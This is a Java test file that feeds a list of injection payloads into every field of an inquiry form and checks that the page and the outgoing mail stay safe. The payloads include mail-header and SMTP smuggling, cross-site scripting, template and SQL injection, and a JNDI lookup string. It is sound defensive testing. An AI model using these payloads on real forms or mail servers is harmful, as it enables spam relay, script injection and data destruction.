package jp.maru.guide.inquiry;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import jp.maru.guide.mail.Mailbox;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Forms that try to make the mail say or do something else, or to make the page do so. */
@InquirySite
class InjectionTest {
    private static final List<String> CORPUS = List.of(
            "a\r\nBcc: victim@example.com",
            "a\nBcc: victim@example.com",
            "a\rBcc: victim@example.com",
            "a\u0085Bcc: victim@example.com",
            "a\u2028Bcc: victim@example.com",
            "a\u2029Bcc: victim@example.com",
            "a\u000bBcc: victim@example.com",
            "a\r\n\r\n別の本文",
            "a\r\n.\r\nMAIL FROM:<x@example.com>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nx",
            "\r\n.\r\nQUIT\r\n",
            "a%0d%0aBcc:%20victim@example.com",
            "a%0ABcc: victim@example.com",
            "a\\r\\nBcc: victim@example.com",
            "=?UTF-8?B?DQpCY2M6IHZpY3RpbUBleGFtcGxlLmNvbQ==?=",
            "=?UTF-8?Q?=0D=0ABcc:_victim@example.com?=",
            "=?ISO-2022-JP?B?GyRCJCIbKEI=?=",
            "victim@example.com, other@example.com",
            "victim@example.com; other@example.com",
            "\"victim\" <victim@example.com>",
            "victim@example.com>",
            "group: victim@example.com;",
            "Content-Type: multipart/mixed; boundary=x",
            "--x\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--x--",
            "begin 644 x.exe\r\n#0V%T\r\nend",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "</textarea></form><form action=https://example.com>",
            "\" autofocus onfocus=alert(1) x=\"",
            "javascript:alert(1)",
            "${7*7} #{7*7} *{7*7} @{/x} ~{x} __${7*7}__ [[${7*7}]] [(${7*7})]",
            "%s %d %n %1$s",
            "{0} {1} {inquiry.name.missing} ${validatedValue}",
            "'; drop table inquiry; --",
            "' or '1'='1",
            "\u202eafter\u202c",
            "\ufeffbom",
            "a\u0000b",
            "\u001b[31mred",
            "${jndi:ldap://example.com/x}");

    private final Visitor visitor;
    private final Mailbox mailbox;
    private final OperatorDesk desk;

    InjectionTest(@LocalServerPort int port, Mailbox mailbox, OperatorDesk desk) {
        visitor = new Visitor(port);
        this.mailbox = mailbox;
        this.desk = desk;
    }

    @ParameterizedTest
    @ValueSource(strings = {"name", "email", "phone", "provider", "message", "topic"})
    void bringsItAsTextOrRefusesIt(String field) throws Exception {
        Map<String, String> accepted = new LinkedHashMap<>();
        for (String text : CORPUS) {
            Answer confirmation = visitor.posts("/inquiry/confirm", Visitor.hanakoWith(field, text));
            assertThat(confirmation
                            .page()
                            .select("script:not([src^=/assets/]), img, form[action^=http], [onfocus], [onerror]"))
                    .as(text)
                    .isEmpty();
            String typed = typed(field, text);
            if (confirmation.status() == 422) {
                assertThat(confirmation.errorAt(field)).as(text).isNotEmpty();
                assertThat(confirmation.form().getOrDefault(field, typed)).isIn(typed.replace('\0', '\ufffd'), "");
                continue;
            }
            assertThat(confirmation.status()).as(text).isEqualTo(200);
            assertThat(confirmation.form()).containsEntry(field, typed);
            String number = visitor.posts("/inquiry", confirmation.form()).number();
            desk.release(number, TestClock.TEN);
            accepted.put(number, typed);
        }
        for (Map.Entry<String, String> one : accepted.entrySet()) {
            MimeMessage mail = mailbox.mailAbout(one.getKey());
            assertThat(mail.getAllRecipients()).containsExactly(new InternetAddress("operator@guide.example"));
            assertThat(mail.getReplyTo()).hasSize(1);
            assertThat(Collections.list(mail.getAllHeaders()))
                    .extracting(header -> header.getName())
                    .contains("Reply-To")
                    .doesNotContain("Bcc", "Cc")
                    .doesNotHaveDuplicates();
            assertThat(mail.getContentType()).isEqualToIgnoringCase("text/plain; charset=UTF-8");
            assertThat(mail.getSubject()).isEqualTo("[受付番号 " + one.getKey() + "] 解約・乗り換えのこと");
            assertThat(mail.getContent().toString().replace("\r\n", "\n")).contains("：" + shown(field, one.getValue()));
        }
        assertThat(accepted.size()).isBetween(field.matches("email|topic") ? 0 : 20, CORPUS.size() - 1);
    }

    /** What arrives of a text: one kind of line ends, and an address without spaces around it. */
    private static String typed(String field, String text) {
        String lines = text.replace("\r\n", "\n").replace('\r', '\n');
        return field.equals("email") ? lines.strip() : lines;
    }

    private static String shown(String field, String text) {
        return (field.equals("message") ? "\n> " : "") + Quotation.of(text) + "\n";
    }
}
